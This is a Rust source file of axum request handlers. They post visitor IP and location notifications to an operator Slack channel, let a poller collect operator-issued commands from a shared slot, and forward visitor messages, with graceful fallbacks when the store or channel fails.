//! Request handlers for the visitor-facing endpoints.
//!
//! Every handler degrades instead of failing: a broken store reads as
//! "nothing pending" / "available", a failed geolocation lookup falls
//! back to a fixed string, and only an explicit publish failure is
//! reported to the caller (as a gateway error, not a crash).

use std::net::SocketAddr;
use std::sync::Arc;

use axum::extract::{ConnectInfo, State};
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::Json;
use serde_json::json;
use slack_morphism::prelude::SlackChannelId;
use tracing::{info, warn};

use crate::catalog::CommandCatalog;
use crate::config::GlobalConfig;
use crate::geo::Geolocator;
use crate::persistence::slot_store::SlotStore;
use crate::slack::blocks;
use crate::slack::client::{SlackMessage, SlackService};

/// Shared state for the HTTP handlers.
pub struct AppState {
    /// Validated global configuration.
    pub config: Arc<GlobalConfig>,
    /// The hand-off store shared with the control listener.
    pub store: SlotStore,
    /// Operator channel service; `None` runs the surface in degraded
    /// mode (polling works, publishing reports an error).
    pub slack: Option<Arc<SlackService>>,
    /// Best-effort reverse geolocation client.
    pub geo: Geolocator,
    /// The fixed command catalog rendered on notifications.
    pub catalog: CommandCatalog,
}

impl AppState {
    fn channel(&self) -> SlackChannelId {
        SlackChannelId(self.config.slack.channel_id.clone())
    }
}

/// Origin address for a request: first `X-Forwarded-For` hop when
/// present, otherwise the peer address. Explicitly best-effort — the
/// header is caller-controlled and the value is informational only.
fn origin_ip(headers: &HeaderMap, peer: SocketAddr) -> String {
    headers
        .get("x-forwarded-for")
        .and_then(|value| value.to_str().ok())
        .and_then(|value| value.split(',').next())
        .map(|value| value.trim().to_owned())
        .filter(|value| !value.is_empty())
        .unwrap_or_else(|| peer.ip().to_string())
}

/// Handler for `GET /health` — returns 200 OK with a plain-text body.
pub async fn health() -> &'static str {
    "ok"
}

/// Handler for `POST /track-ip` — compatibility no-op.
pub async fn track_ip() -> Json<serde_json::Value> {
    Json(json!({"status": "success"}))
}

/// Handler for `POST /notify` — publish a visit notification with the
/// command catalog as buttons, unless the operator is unavailable.
pub async fn notify(
    State(state): State<Arc<AppState>>,
    ConnectInfo(peer): ConnectInfo<SocketAddr>,
    headers: HeaderMap,
) -> Response {
    let available = match state.store.get_availability().await {
        Ok(value) => value,
        Err(err) => {
            warn!(%err, "availability read failed; treating as available");
            true
        }
    };
    if !available {
        return Json(json!({"available": false})).into_response();
    }

    let Some(ref slack) = state.slack else {
        return (
            StatusCode::SERVICE_UNAVAILABLE,
            Json(json!({"status": "error", "message": "operator channel not configured"})),
        )
            .into_response();
    };

    let ip = origin_ip(&headers, peer);
    let location = state.geo.lookup(&ip).await;
    let message = format!("New visitor\nIP: {ip}\nLocation: {location}");
    let rendered = blocks::visit_notification(&message, &state.catalog);

    let outgoing = SlackMessage::with_blocks(state.channel(), message, rendered);
    match slack.post(outgoing).await {
        Ok(()) => {
            info!(ip, "visit notification published");
            Json(json!({"status": "success"})).into_response()
        }
        Err(err) => {
            warn!(%err, "visit notification publish failed");
            (
                StatusCode::BAD_GATEWAY,
                Json(json!({"status": "error", "message": err.to_string()})),
            )
                .into_response()
        }
    }
}

/// Handler for `GET /check-command` — atomically drain the pending
/// command slot.
pub async fn check_command(State(state): State<Arc<AppState>>) -> Response {
    match state.store.take_command().await {
        Ok(Some(slot)) => {
            info!(command = %slot.command, "delivering command to poller");
            Json(slot).into_response()
        }
        Ok(None) => Json(json!({"command": null})).into_response(),
        Err(err) => {
            warn!(%err, "command poll degraded; reporting nothing pending");
            Json(json!({"command": null})).into_response()
        }
    }
}

/// Handler for `POST /send-message` — forward a visitor-supplied text
/// to the operator channel verbatim.
pub async fn send_message(
    State(state): State<Arc<AppState>>,
    Json(body): Json<serde_json::Value>,
) -> Response {
    let Some(message) = body
        .get("message")
        .and_then(serde_json::Value::as_str)
        .filter(|text| !text.is_empty())
    else {
        return (
            StatusCode::BAD_REQUEST,
            Json(json!({"error": "No message provided"})),
        )
            .into_response();
    };

    let Some(ref slack) = state.slack else {
        return (
            StatusCode::SERVICE_UNAVAILABLE,
            Json(json!({"status": "error", "message": "operator channel not configured"})),
        )
            .into_response();
    };

    match slack
        .post(SlackMessage::plain(state.channel(), message))
        .await
    {
        Ok(()) => Json(json!({"status": "input received successfully"})).into_response(),
        Err(err) => {
            warn!(%err, "visitor message forward failed");
            (
                StatusCode::BAD_GATEWAY,
                Json(json!({"status": "error", "message": err.to_string()})),
            )
                .into_response()
        }
    }
}
